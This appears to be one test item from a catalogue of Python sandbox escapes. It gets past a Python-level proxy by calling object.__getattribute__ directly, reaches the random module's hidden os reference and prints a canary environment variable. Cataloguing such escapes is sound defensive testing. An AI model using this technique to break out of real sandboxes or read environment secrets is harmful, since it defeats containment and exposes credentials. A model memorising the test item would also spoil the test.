# id: proxy-getattribute-bypass
# family: guard-confusion
# kind: escape
# invariant: D, E
# origin: pysandbox moved its proxies to C because of it
# technique: object.__getattribute__ ignores the override by which a proxy written in Python hides what it wraps
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: builtins, permits
# fix: structural
# alive-when: canary

import random


class Proxy:
    def __init__(self, wrapped):
        object.__setattr__(self, "wrapped", wrapped)

    def __getattribute__(self, name):
        raise PermissionError(name)


wrapped = object.__getattribute__(Proxy(random), "wrapped")
print(object.__getattribute__(wrapped, "_os").environ["PADCELL_CANARY"])
